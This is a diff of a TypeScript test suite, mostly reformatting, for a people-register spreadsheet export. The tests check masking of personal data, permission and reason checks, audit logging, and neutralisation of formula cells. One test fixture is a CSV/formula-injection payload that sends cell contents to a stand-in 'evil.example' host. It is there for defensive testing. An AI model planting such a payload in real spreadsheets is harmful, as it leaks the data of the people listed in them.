@@ -9,7 +9,9 @@ let A: number, B: number;
 
 beforeAll(async () => {
   t = await startTestPlatform({ today: '2026-11-26' });
-  [villageA, villageB, member, admin] = (await Promise.all(['village.a', 'village.b', 'village.a.member', 'admin'].map((u) => t.login(u)))) as [Client, Client, Client, Client];
+  [villageA, villageB, member, admin] = (await Promise.all(
+    ['village.a', 'village.b', 'village.a.member', 'admin'].map((u) => t.login(u)),
+  )) as [Client, Client, Client, Client];
   A = await t.org('500154001001');
   B = await t.org('500154001002');
 });
@@ -37,7 +39,15 @@ async function sheet(buf: Buffer) {
 describe('export', () => {
   it('neutralises cells that begin with = + - @, and masks personal data by default', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
-    const p = (await villageA.post('/api/v1/people', { orgId: A, name: evil, phone: '13612345678', occupation: '@SUM(1+1)', idNumber: null })).body;
+    const p = (
+      await villageA.post('/api/v1/people', {
+        orgId: A,
+        name: evil,
+        phone: '13612345678',
+        occupation: '@SUM(1+1)',
+        idNumber: null,
+      })
+    ).body;
     expect(p.name).toBe(evil);
     await villageA.post('/api/v1/people', { orgId: A, name: '+加号', occupation: '-1' });
     const r = await download(villageA, `/api/v1/people/export.xlsx?orgId=${A}`);
@@ -56,29 +66,39 @@ describe('export', () => {
     expect(plusRow['职业']!.value).toBe("'-1");
     expect(rows.every((x) => x['身份证号']!.value === null || /\*{6,}/.test(String(x['身份证号']!.value)))).toBe(true);
     expect(rows.every((x) => x['所属组织代码']!.value === '500154001001')).toBe(true);
-    const [e] = await t.sql<{ after: any; actor_name: string; result: string }>(`select after, actor_name, result from audit_events where action = 'person.export' order by id desc limit 1`);
+    const [e] = await t.sql<{ after: any; actor_name: string; result: string }>(
+      `select after, actor_name, result from audit_events where action = 'person.export' order by id desc limit 1`,
+    );
     expect(e).toMatchObject({ actor_name: 'village.a', result: 'success' });
     expect(e!.after).toMatchObject({ rows: rows.length, unmasked: false, complete: true, filter: { orgId: A } });
   });
 
   it('gives clear values only with person.unmask and a reason, and audits both', async () => {
-    expect((await download(member, `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('走访核对')}`)).status).toBe(403);
+    expect(
+      (await download(member, `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('走访核对')}`))
+        .status,
+    ).toBe(403);
     expect((await download(admin, '/api/v1/people/export.xlsx')).status).toBe(403);
     const noReason = await download(villageA, '/api/v1/people/export.xlsx?unmasked=true');
     expect(noReason.status).toBe(400);
     expect(noReason.json().field).toBe('reason');
-    const r = await download(villageA, `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('春节慰问电话核对')}&q=${encodeURIComponent('HYPERLINK')}`);
+    const r = await download(
+      villageA,
+      `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('春节慰问电话核对')}&q=${encodeURIComponent('HYPERLINK')}`,
+    );
     expect(r.status).toBe(200);
     const { rows } = await sheet(r.buf);
     expect(rows).toHaveLength(1);
     expect(rows[0]!['手机号码']!.value).toBe('13612345678');
-    const events = await t.sql<{ action: string; reason: string; after: any }>(`select action, reason, after from audit_events where action like 'person.export%' order by id desc limit 2`);
+    const events = await t.sql<{ action: string; reason: string; after: any }>(
+      `select action, reason, after from audit_events where action like 'person.export%' order by id desc limit 2`,
+    );
     expect(events.map((e) => e.action).sort()).toEqual(['person.export', 'person.export.unmask']);
     expect(events.every((e) => e.reason === '春节慰问电话核对')).toBe(true);
     expect(events.find((e) => e.action === 'person.export')!.after).toMatchObject({ rows: 1, unmasked: true });
   });
 
-  it('exports only the caller\'s subtree', async () => {
+  it("exports only the caller's subtree", async () => {
     const r = await download(villageB, '/api/v1/people/export.xlsx');
     const { rows } = await sheet(r.buf);
     expect(rows.length).toBeGreaterThan(0);
@@ -88,15 +108,30 @@ describe('export', () => {
   });
 
   it('streams 5,000 rows in keyset pages; read back with the streaming reader, every row is there once', async () => {
-    const [b] = await t.sql<{ path: string; district_id: number }>('select path::text as path, district_id from organizations where id = $1', [B]);
-    await t.sql(`insert into persons (org_id, org_path, district_id, name, name_pinyin, name_initials, gender, birth_date)
+    const [b] = await t.sql<{ path: string; district_id: number }>(
+      'select path::text as path, district_id from organizations where id = $1',
+      [B],
+    );
+    await t.sql(
+      `insert into persons (org_id, org_path, district_id, name, name_pinyin, name_initials, gender, birth_date)
       select $1, $2::ltree, $3, '批量' || g, 'piliang' || lpad(g::text, 5, '0'), 'pl', 'female', date '1970-01-01' + (g % 10000)
-      from generate_series(1, 5000) g`, [B, b!.path, b!.district_id]);
-    const [{ n }] = (await t.sql<{ n: number }>(`select count(*)::int as n from persons where org_path <@ $1::ltree and status = 'active'`, [b!.path])) as [{ n: number }];
+      from generate_series(1, 5000) g`,
+      [B, b!.path, b!.district_id],
+    );
+    const [{ n }] = (await t.sql<{ n: number }>(
+      `select count(*)::int as n from persons where org_path <@ $1::ltree and status = 'active'`,
+      [b!.path],
+    )) as [{ n: number }];
     expect(n).toBeGreaterThan(5000);
     const r = await download(villageB, `/api/v1/people/export.xlsx?orgId=${B}&sort=name`);
     expect(r.status).toBe(200);
-    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(r.buf), { worksheets: 'emit', sharedStrings: 'cache', styles: 'ignore', hyperlinks: 'ignore', entries: 'ignore' });
+    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(r.buf), {
+      worksheets: 'emit',
+      sharedStrings: 'cache',
+      styles: 'ignore',
+      hyperlinks: 'ignore',
+      entries: 'ignore',
+    });
     let count = 0;
     let generated = 0;
     const names = new Set<string>();
@@ -114,7 +149,9 @@ describe('export', () => {
     expect(count).toBe(n);
     expect(generated).toBe(5000);
     expect(names.size).toBe(5000); // every generated person exactly once across the keyset pages
-    const [e] = await t.sql<{ after: any }>(`select after from audit_events where action = 'person.export' order by id desc limit 1`);
+    const [e] = await t.sql<{ after: any }>(
+      `select after from audit_events where action = 'person.export' order by id desc limit 1`,
+    );
     expect(e!.after.rows).toBe(n);
   });
 });
